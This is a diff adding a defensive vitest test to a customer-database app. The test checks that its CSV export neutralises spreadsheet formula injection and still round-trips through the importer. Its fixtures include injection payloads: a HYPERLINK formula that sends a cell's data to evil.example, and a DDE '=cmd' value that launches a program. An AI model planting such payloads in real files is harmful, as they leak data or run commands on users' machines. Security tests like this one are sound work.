@@ -9,6 +9,7 @@ import postgres, { type Sql } from 'postgres';
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { countCustomers, listCustomers } from '../../lib/db/queries/customers.ts';
 import { withRls } from '../../lib/db/with-rls.ts';
+import { unguardCell } from '../../lib/export/csv-guard.ts';
 import { customersCsvStream } from '../../lib/export/customers-csv.ts';
 import type { ImportEvent, ImportRequest } from '../../lib/import/request.ts';
 import { runImport } from '../../lib/import/run.ts';
@@ -167,6 +168,43 @@ describe('export → import round trip', () => {
     expect(await exportAll()).toBe(csv);
   });
 
+  // Issue 13 finding 3. Tried: customers whose name / company / industry / region start with = + - @
+  // — on main they were exported as is and ran as formulas in Excel. (A leading tab or CR is
+  // guarded too, tests/unit/security/csv-guard.test.ts; the importer trims those anyway.)
+  it('neutralises cells a spreadsheet would run as formulas, and still re-imports to the same data', async () => {
+    const evil: [string, string, string][] = [
+      ['=HYPERLINK("http://evil.example/?"&F3,"点击查看")', '+1+1', '-2+3'],
+      ['@SUM(A1:A9)', "'=already quoted", '=cmd|\' /C calc\'!A0'],
+    ];
+    for (const [i, [name, company, industry]] of evil.entries()) {
+      await admin`insert into customers (org_id, owner_id, name, company, industry, region, external_id)
+                  values (${w.org1}, ${w.ids.repA}, ${name}, ${company}, ${industry}, ${'-' + i + '°C 冷库'}, ${'FX' + i})`;
+    }
+    const exportAll = async () => {
+      const chunks: string[] = [];
+      await withRls(claimsFor(w.ids.admin), async (tx) => {
+        for await (const c of customersCsvStream(tx, { orgId: w.org1 })) chunks.push(c);
+      }, app);
+      return chunks.join('');
+    };
+    const csv = await exportAll();
+    // Every cell as a spreadsheet sees it: none may start a formula (tab + digits is the phone form).
+    const cells = (parse(csv, { bom: true, from_line: 2 }) as string[][]).flat();
+    const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^\t\+?\d[\d ]*$/.test(c));
+    expect(risky).toEqual([]);
+    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
+    expect(rows.find((r) => r.external_id === 'FX0')).toMatchObject({ name: `'${evil[0]![0]}`, company: "'+1+1", industry: "'-2+3", region: "'-0°C 冷库" });
+    expect(rows.find((r) => r.external_id === 'FX1')).toMatchObject({ name: "'@SUM(A1:A9)", company: "''=already quoted" });
+
+    const snapshot = () => admin`select id, external_id, name, kind, industry, region, phone, email, company, owner_id, created_at
+                                 from customers where org_id = ${w.org1} and external_id like 'FX%' order by id`;
+    const before = await snapshot();
+    const { result } = await run('admin', { dry: false, files: [{ file: 'customers.csv', text: csv }] });
+    expect(result.errors).toEqual([]);
+    expect(await snapshot()).toEqual(before); // the importer took the guards off again
+    expect(await exportAll()).toBe(csv);
+  });
+
   it('filters exactly like the customer list (same query params, same SQL)', async () => {
     for (const filters of [{ q: '张三' }, { q: '138 0013' }, { q: 'K00' }, {}] as const) {
       const [listed, csv] = await withRls(claimsFor(w.ids.mgr1), async (tx) => {
@@ -175,7 +213,7 @@ describe('export → import round trip', () => {
         for await (const c of customersCsvStream(tx, { ...filters, orgId: w.org1 })) chunks.push(c);
         return [page.items.map((c) => c.name).sort(), chunks.join('')] as const;
       }, app);
-      const exported = (parse(csv, { bom: true, columns: true }) as Record<string, string>[]).map((r) => r.name!).sort();
+      const exported = (parse(csv, { bom: true, columns: true }) as Record<string, string>[]).map((r) => unguardCell(r.name!)).sort();
       expect(exported, JSON.stringify(filters)).toEqual(listed);
     }
   });
